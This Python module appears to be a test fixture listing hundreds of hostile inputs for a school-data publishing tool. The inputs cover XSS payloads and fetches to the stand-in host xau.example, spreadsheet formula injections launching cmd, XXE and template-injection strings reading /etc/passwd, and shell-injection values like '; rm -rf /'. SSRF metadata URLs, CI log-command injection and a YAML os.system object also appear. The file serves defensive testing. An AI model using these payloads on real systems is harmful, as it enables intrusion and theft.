"""Texts that somebody might send to do harm: by what they are meant to break, more than three hundred.

`TEXTS` are letters and signs that a text may hold: they are published, as text. `HIDDEN` hold characters
that no file may hold. `FILES` are whole files, or values in place of others, that are refused.
"""

HOST = "xau.example"
_DO = ("alert(1)", f"fetch('//{HOST}/')", "document.documentElement.dataset.xau=1")
_EVENTS = (
    "onload",
    "onerror",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
)
_HOLDERS = ("img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "style", "marquee")

_html = [
    *(f"<script>{do}</script>" for do in _DO),
    *(f"<{holder} {event}={_DO[2]}>" for holder, event in zip(_HOLDERS, _EVENTS, strict=True)),
    *(
        f"</{tag}><script>{_DO[2]}</script>"
        for tag in ("p", "td", "title", "textarea", "style", "template", "noscript")
    ),
    *(
        f'{end}<script src="//{HOST}/a.js"></script>'
        for end in ("-->", "]]>", "--!>", "?>", "%>", "*/", "//")
    ),
    f"<iframe src=https://{HOST}></iframe>",
    f'<iframe srcdoc="<script>{_DO[2]}</script>">',
    f"<object data=https://{HOST}/x.swf>",
    f"<embed src=https://{HOST}/x.swf>",
    f'<base href="https://{HOST}/">',
    f'<link rel=stylesheet href="https://{HOST}/a.css">',
    f'<meta http-equiv=refresh content="0;url=https://{HOST}">',
    f"<form action=https://{HOST}><input name=p><button>Gửi</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>bấm</text></a></svg>',
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<img src=x oneonerrorrror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&amp;lt;b&amp;gt;",
    "&notin; &copy &para=1",
    "<b>đậm</b><i>nghiêng</i>",
    "</body></html>",
    "<plaintext>",
    "<title>khác</title>",
    "<xmp><p title='</xmp><img src onerror=alert(1)>'>",
    "<template shadowrootmode=open><slot></slot></template>",
    "<a href=javascript:alert(1)>bấm</a>",
    "<dialog open><button autofocus onfocus=alert(1)>",
    "<portal src=//xau.example>",
    "<isindex action=javascript:alert(1) type=image>",
]
_attributes = [
    *(
        f"{quote} {event}={quote}{_DO[2]}"
        for quote in "\"'`"
        for event in ("onmouseover", "onfocus", "autofocus onfocus")
    ),
    *(f"{quote}><script>{_DO[2]}</script>" for quote in "\"'`"),
    *(f"{quote}/><img src=x onerror={_DO[2]}>" for quote in "\"'"),
    '" style="background:url(//xau.example)',
    "' style='position:fixed;inset:0",
    '" srcdoc="<script>alert(1)</script>',
    '" formaction="javascript:alert(1)',
    '" http-equiv="refresh" content="0;//xau.example',
    '" id="cds-data',
    '" class="md-header',
    '" aria-label="',
    "&quot; onclick=&quot;alert(1)",
    "&#34; onclick=&#34;alert(1)",
    "x=y onclick=alert(1)",
]
_urls = [
    *(
        f"{scheme}:{_DO[0]}"
        for scheme in ("javascript", "JAVASCRIPT", "JaVaScRiPt", "vbscript", "livescript", "jar")
    ),
    "java&#09;script:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://xau.example/1",
    "file:///etc/passwd",
    "file://///may-chu/chia-se",
    "view-source:https://xau.example",
    "intent://xau.example#Intent;scheme=https;end",
    "//xau.example/%2f..",
    "///xau.example",
    "\\\\xau.example\\chia-se",
    "https:\\\\xau.example",
    "https://xau.example@truong.edu.vn",
    "https://truong.edu.vn#@xau.example",
    "https://truong.edu.vn.xau.example",
    "https://xn--80ak6aa92e.com",
    "https://[::ffff:127.0.0.1]",
    "https://0x7f000001/",
    "https://2130706433/",
    "https://017700000001/",
    "https://127.0.0.1.nip.io/",
    "http://169.254.169.254/latest/meta-data/",
    "http://metadata.google.internal/",
    "ftp://ten:mk@xau.example/",
    "mailto:a@xau.example?subject=x&body=%0d%0aBcc:b",
    "tel:+84000000000;ext=1",
    "www.xau.example",
    "https://xau.example/?q=<script>alert(1)</script>",
    'https://xau.example/"onclick=alert(1)',
    "https://xau.example/%00%0d%0aSet-Cookie:a=b",
]
_css = [
    "}</style><script>alert(1)</script>",
    "x:expression(alert(1))",
    "background:url(javascript:alert(1))",
    "@import 'https://xau.example/a.css';",
    "*{display:none!important}",
    "\\3c script\\3e",
    "/*</style>*/",
    "width:expression(alert(1));--x:url(//xau.example)",
    ":root{--md-primary-fg-color:red}",
    "behavior:url(x.htc)",
    "-moz-binding:url(//xau.example/x.xml#x)",
]
_json = [
    '"}</script><script>alert(1)</script>',
    '","@type":"Person","name":"',
    '"}],"x":[{"a":"',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    '\\"},alert(1)//',
    "</script><!--",
    "<!--<script>",
    '{"__proto__":{"xau":1}}',
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "\\",
    '"',
    "null",
    "undefined",
    "NaN",
    "[]",
    "{}",
    "true",
]
_formulas = [
    *(
        f"{sign}{rest}"
        for sign in "=+-@"
        for rest in ("1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)", 'HYPERLINK("https://xau.example","bấm")')
    ),
    '=WEBSERVICE("https://xau.example/"&A1)',
    '=IMPORTXML("https://xau.example","//a")',
    '=DDE("cmd";"/C calc";"x")',
    '=IMAGE("https://xau.example/a.png")',
    "+SUM(1;2)*cmd|' /C notepad'!A1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1;2;3",
    "'=1+1",
    '"=1+1"',
    '="=1+1"',
    "＝1+1",
    "−1+1",
    "%0A=1+1",
    ",=1+1",
    ";=1+1,",
    '","=1+1","',
    "=A1:INDEX(A:A,1048576)",
    "{=SUM(A1:A2)}",
    "=_xlfn.FORMULATEXT(A1)",
    "#REF!",
    "#N/A",
    "1E999",
    "00123",
    "1/2",
]
_sheets = [
    "_x0000_", "_x000D_", "_x005F_x0000_", "_x0009_", "_x001B_[31m", "[Book1]Sheet1!A1", "'Sheet1'!A1", "Sheet/1?*[]:",
    "<t xml:space='preserve'>", "<f>1+1</f>", "<c t='str'>", "internal:Sheet1!A1", "external:C:\\x.xlsx", "http://xau.example/" + "a" * 300,
]  # fmt: skip
_word = [
    "<w:p/>", "</w:t></w:r></w:p><w:p>", "<w:instrText>INCLUDETEXT</w:instrText>", "{ DDEAUTO c:\\\\x cmd }", "{INCLUDEPICTURE \"https://xau.example/a.png\"}",
    "{ PAGE }", "]]>", "<![CDATA[", "<?xml version=\"1.0\"?>", "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>&a;", "&xxe;", "%xxe;", "&#0;", "&#xD800;", "&#x1F;",
    "{so} {ngay} {noi_dung} {truong}", "{{ truong }}", "{% for a in b %}", "{0}", "{!r}", "%s %d %(a)s", "$so ${so}", "\\1 \\g<0>", "{so.__class__}",
]  # fmt: skip
_templates = [
    "{{7*7}}", "{{ config }}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{%raw%}", "{# lời chú #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "[[7*7]]", "{{constructor.constructor('alert(1)')()}}",
    "{% include '/etc/passwd' %}", "{%- set x = 1 -%}", "<!--cds:body-->", "<!--cds:title-->", "<!--cds:policy-->", "cds:body", "\u2039cds\u203a", "__cds__",
]  # fmt: skip
_markdown = [
    "[bấm](javascript:alert(1))", "![x](https://xau.example/a.png)", "<https://xau.example>", "# tiêu đề", "- [ ] việc", "| a | b |\\n|---|---|", "```html", "~~~", "**đậm**", "`mã`", "@admin #1 gh-1",
    "[x]: javascript:alert(1)", "[^1]", "\\<b>", "&nbsp;", "<details><summary>x</summary>", "$$\\alert$$", ":smile:", "1. một", "> lời dẫn", "---", "***", "===", "!!! note", "{: .x onclick=alert(1) }", "--8<-- \"/etc/passwd\"",
]  # fmt: skip
_feeds = [
    "<entry><id>x</id></entry>", "</title><link href='https://xau.example'/>", "<![CDATA[x]]>", "&nbsp;&eacute;", "<xhtml:script>alert(1)</xhtml:script>", "urn:uuid:0", "<?xml-stylesheet href='//xau.example/a.xsl'?>",
    "BEGIN:VEVENT", "END:VCALENDAR", "\\nBEGIN:VALARM", "\\r\\nATTACH:https://xau.example/a", ";VALUE=URI:https://xau.example", "DTSTART:20000101", "RRULE:FREQ=SECONDLY", ":;,\\", "X-ALT-DESC;FMTTYPE=text/html:<b>", "ORGANIZER:mailto:a@xau.example",
]  # fmt: skip
_paths = [
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\windows", "....//....//", "%2e%2e%2f", "..%c0%af", "a/../b", "./a", ".", "..", "~root", "CON", "nul.txt", "com1", "aux.html", "a:b", "a|b", "a?b*c", "tên. ", ".git/config", ".htaccess",
    "index.html", "truong/x/index.html", "$HOME", "`id`", "$(id)", "; rm -rf /", "&& id", "| id", "> /tmp/x", "-rf", "--help", "-o ProxyCommand=id", "%PATH%", "!id", "\\\\.\\pipe\\x",
]  # fmt: skip
_logs = [
    "::set-output name=a::b", "::error file=a,line=1::x", "::add-mask::a", "::stop-commands::x", "::save-state name=a::b", "::group::x", "##[error]x", "##vso[task.setvariable variable=a]b", "%0A::error::x", "%0D%0A::warning::x", "::endgroup::",
    "section_start:1:x[collapsed=true]", "\\x1b[31m", "^[[2J", "[0m đỏ", "]8;;https://xau.example", "INFO: xong", "data/a.yml:1:1: lỗi: x [unreadable]", "<testsuite>", "##teamcity[x]",
]  # fmt: skip
_patterns = [
    "(a+)+$", "a" * 300 + "!", "# " * 60, "(((((((((((((((((((((((((", "[" * 100, "{" * 100, ": " * 100, "\\" * 100, ".*.*.*.*.*.*=", "0" * 300, "9" * 300, "- " * 100, "' " * 90, '" ' * 90, ", " * 120, "@" * 200, "://" * 80, "a@" * 100, "0 9 " * 60, "&" * 200,
    "<" * 200, "<a " * 80, "_x" * 120, "|" * 200, "💥" * 100, "ạ" * 390,
]  # fmt: skip
_unicode = [
    "Тrường THCS", "Ｔｒường", "Trươ\u0300ng", "e\u0301" * 50, "a" + "\u0301" * 200, "\u0e33" * 40, "ﷺﷺﷺ", "ﬁ ﬂ ǆ", "İstanbul ıI", "ẞß", "ſ K Å", "﹤script﹥alert(1)﹤/script﹥", "＜script＞alert(1)＜/script＞", "ʺ onclick=alert(1)", "‹b›", "＂ onclick＝alert(1)", "𝕏𝔸𝕌", "🏳️‍🌈".replace("\u200d", ""),
    "𠀀𠀁", "\U0010fffd", "\ue000", "\ufffd", "\ufdd0", "مرحبا שלום", "ไทย한국어日本語", "١٢٣", "½ ² ⁵", "㎏ ㏂", "…‥․", "\u3000rộng\u3000", "\u2007số\u2007", "\u1680", "x\u0338=", "\u034f", "\u115f\u1160", "\u3164", "\u2800", "\ufe0f", "\u0378",
]  # fmt: skip

TEXTS = {
    "html": _html, "attributes": _attributes, "urls": _urls, "css": _css, "json": _json, "formulas": _formulas, "sheets": _sheets, "word": _word, "templates": _templates,
    "markdown": _markdown, "feeds": _feeds, "paths": _paths, "logs": _logs, "patterns": _patterns, "unicode": _unicode,
}  # fmt: skip

HIDDEN = {
    "bidi": ["\u202exau", "\u202ab\u202c", "\u2066x\u2069", "\u200fx", "\u061cx", "\u200ex"],
    "zero width": ["a\u200bb", "a\u200cb", "a\u200db", "a\u2060b", "\ufeffa", "a\u00adb", "a\u180eb"],
    "control": ["a\x00b", "a\x07b", "\x1b[31mđỏ", "\x1b]8;;https://xau.example\x07bấm", "a\x08b", "a\x0cb", "a\x7fb", "a\x9bb", "a\x85b"],
    "lines": ["a\u2028b", "a\u2029b"],
    "tags": ["\U000e0041\U000e0042", "\ufff9a\ufffab\ufffb", "\U0001d173"],
}  # fmt: skip

_NUMBERS = [".nan", ".NaN", ".inf", "-.inf", "+.inf", "NaN", "Infinity", "1e3", "1E999", "0x10", "0o17", "0b1", "1_000", "1:30", "٣", "３", "½", "9" * 21, "-1", "-0.5", "1.", ".5", "+1", "1,5", "1 000", "0123", "1.2.3", "[1]", "{a: 1}", "true", '""', "''", "1e-999", "∞", "1/2"]  # fmt: skip
_DATES = ["2024-02-30", "2023-02-29", "0000-01-01", "10000-01-01", "2024-13-01", "2024-00-10", "2024-1-1", "24-01-01", "01/02/2024", "2024-05-07T00:00:00Z", "2024-05-07 10:00", "20240507", "２０２４-05-07", "-2024-05-07", "9999-12-31", "0001-01-01", "1899-12-31", "now", "1715040000", "2024-W19-2"]  # fmt: skip
_IDS = ["../../../etc/passwd", "..", "/etc/passwd", "thcs-a/../thcs-b", "C:\\x", "con", "THCS-A", "thcs_a", "тhcs-a", "thcs-a\u0301", "thcs-a ", "a" * 65, "x", "thcs-a\\0", "thcs%2da", "-", "thcs-a.yml", "[thcs-a]", "{a: b}", "null"]  # fmt: skip
_LINKS = ["javascript:alert(1)", "JAVASCRIPT:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd", "//xau.example", "https://a:b@xau.example", "https://127.0.0.1", "https://[::1]/", "https://localhost", "https://10.1.2.3/a", "https://0x7f.1/", "https://2130706433", "https://may-chu.local", "https://xau.example\\\\@truong.edu.vn", "https://xau.example/ a", "https://xau.example/<x>", "https:///x", "https://", "ftp://xau.example", "xau.example"]  # fmt: skip

VALUES = {
    "number": ("tong_diem", _NUMBERS),
    "date": ("phe_duyet", _DATES),
    "id": ("truong", _IDS),
    "year": (
        "nam_hoc",
        ['"../2024"', '"2024-2026"', '"9999-10000"', '"２０２３-2024"', "2023", '"2023–2024"'],
    ),
    "rubric": ("bo_chi_so", ["../bo-thu", "/etc/passwd", "bo thu", "BO-THU", "[bo-thu]", "?"]),
    "link": ("van_ban", _LINKS),
    "state": ("trang_thai", ["yes", "DA_PHE_DUYET", "da_phe_duyet ;", "[da_phe_duyet]", "1"]),
}
"""Values that are refused, by the key they stand at."""

_deep = "a: " + "[" * 3000
_bomb = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(9)
)
FILES = {
    "a bomb of aliases": _bomb.encode(),
    "a thousand brackets": _deep.encode(),
    "nested mappings": b"".join(b" " * n + b"a:\n" for n in range(40)),
    "python object": b"a: !!python/object/apply:os.system [id]\n",
    "a tag of its own": b"!<tag:xau.example,2024:x> a: b\n",
    "merge key": b"a: &x {b: 1}\nc: {<<: *x}\n",
    "key twice": b"ghi_chu: a\nghi_chu: b\n",
    "two documents": b"ghi_chu: a\n---\nghi_chu: b\n",
    "directive": b"%YAML 9.9\n---\na: b\n",
    "a list": b"- a\n- b\n",
    "a text": b"chi la chu\n",
    "nothing": b"",
    "a NUL": b"ghi_chu: a\x00b\n",
    "NULs alone": b"\x00" * 5000,
    "half a letter": b"ghi_chu: \xe1\xba\n",
    "overlong": b"ghi_chu: \xc0\xbcscript\xc0\xbe\n",
    "a surrogate": b"ghi_chu: \xed\xa0\x80\n",
    "an escaped surrogate": b'ghi_chu: "\\ud800"\n',
    "an escaped NUL": b'ghi_chu: "\\0"\n',
    "an escaped right-to-left": b'ghi_chu: "\\u202e"\n',
    "beyond Unicode": b"ghi_chu: \xf4\x90\x80\x80\n",
    "UTF-16": "ghi_chu: a\n".encode("utf-16"),
    "UTF-32": "ghi_chu: a\n".encode("utf-32"),
    "UTF-7": b"+ADw-script+AD4-\n",
    "windows-1258": "ghi_chu: Trường\n".encode("cp1258", "replace"),
    "gzip": b"\x1f\x8b\x08\x00" + b"\x00" * 40,
    "zip": b"PK\x03\x04" + b"\x00" * 40,
    "ELF": b"\x7fELF" + b"\x00" * 60,
    "HTML": b"<!doctype html><script>alert(1)</script>\n",
    "JSON": b'{"a": 1}\n',
    "XML with an entity": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>\n',
    "one long line": b"ghi_chu: " + b"a" * 5000 + b"\n",
    "one long key": b"a" * 5000 + b": b\n",
    "too large": b"ghi_chu: a\n#" + b"x" * (256 * 1024),
    "just a mark": b"\xef\xbb\xbf",
    "carriage returns": b"ghi_chu: a\rtruong: b\rtruong: c\r",
    "conflict": b"<<<<<<< HEAD\nghi_chu: a\n=======\nghi_chu: b\n>>>>>>> x\n",
    "unclosed quote": b'ghi_chu: "a\n',
    "unclosed bracket": b"van_ban: {a: {so: b\n",
    "unknown keys": b"".join(f"k{n}: 1\n".encode() for n in range(1500)),
    "keys of numbers": b"1: a\n2.5: b\ntrue: c\n? [a]\n: d\n",
    "binary": b"a: !!binary aGVsbG8=\n",
    "octal and sexagesimal": b"truong: 0o17\nnam_hoc: 1:30:30\n",
    "an anchor alone": b"ghi_chu: &a b\n",
    "an alias alone": b"ghi_chu: *a\n",
    "complex key": b"? {a: b}\n: c\n",
    "tabs": b"\ta: b\n\t\tc: d\n",
    "signs of comments": b"ghi_chu: " + b"# " * 300 + b"x: y\n",
}
"""Whole files that no school could have meant."""


def texts() -> list[str]:
    """Every text that may be published, once."""
    return list(dict.fromkeys(one for group in TEXTS.values() for one in group))


def values() -> list[tuple[str, str, str]]:
    """Kind, key and value of what is refused in its place."""
    return [(kind, key, value) for kind, (key, listed) in VALUES.items() for value in listed]


def hidden() -> list[str]:
    """Texts with characters that cannot be seen."""
    return [one for group in HIDDEN.values() for one in group]
